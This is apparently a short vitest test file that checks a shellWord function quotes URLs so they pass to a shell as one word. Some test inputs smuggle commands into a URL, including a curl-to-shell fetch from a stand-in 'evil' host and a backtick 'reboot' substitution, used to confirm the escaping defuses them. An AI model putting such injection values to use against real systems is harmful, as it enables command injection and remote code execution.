import { expect, test } from "vitest";
import { shellWord } from "./shell";

test.each([
  ["https://github.com/owner/name.git", "https://github.com/owner/name.git"],
  ["https://x.example/a;curl$IFSevil|sh", "'https://x.example/a;curl$IFSevil|sh'"],
  ["https://x.example/`reboot`&", "'https://x.example/`reboot`&'"],
  ["https://x.example/it's", "'https://x.example/it'\\''s'"],
  ["https://x.example/*(x)", "'https://x.example/*(x)'"],
  ["", "''"],
])("%j is one word of a command as %j", (text, word) => {
  expect(shellWord(text)).toBe(word);
});
